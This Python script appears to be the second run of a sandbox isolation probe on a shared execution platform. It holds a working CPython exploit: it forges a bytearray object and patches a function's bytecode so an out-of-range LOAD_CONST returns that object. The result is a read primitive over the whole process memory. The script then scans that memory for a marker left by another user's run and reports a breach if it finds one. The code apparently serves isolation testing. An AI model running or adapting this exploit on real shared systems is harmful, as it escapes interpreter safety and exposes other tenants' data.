"""Second of two runs: read the whole linear memory, past the interpreter's rules, for the mark of the first."""
from platform_sdk import send_output
import opcode, struct

WORD = struct.calcsize("P")
HEAD = bytes.__basicsize__ - 1

def words(*values):
    return b"".join((value & ((1 << 8 * WORD) - 1)).to_bytes(WORD, "little") for value in values)

def whole_memory():
    """A constant's index that points beyond the constants, at a bytearray of our own making that starts at 0."""
    def take():
        return 0
    array = words(1 << 20, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
    slot = words(id(array) + HEAD)
    first = id(take.__code__.co_consts) + tuple.__basicsize__
    index = ((id(slot) + HEAD - first) // WORD) & 0xFFFFFFFF
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255])
    take.__code__ = take.__code__.replace(
        co_code=code + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))
    return take(), array, slot

memory, *keep = whole_memory()
if type(memory) is not bytearray:
    send_output("INFO:the trick does not work here")
else:
    send_output("HELD:reading")
    mark = b"MARK-OF-RUN-"  # and then an A, which must not stand behind it in this run's own memory
    for start in range(0, 64 << 20, 1 << 16):
        window = memory[max(start - 64, 0):start + (1 << 16)]
        at = window.find(mark)
        while at >= 0:
            if window[at + len(mark)] == 65:
                send_output("BREACH:another run's data at %d" % start)
                raise SystemExit
            at = window.find(mark, at + 1)
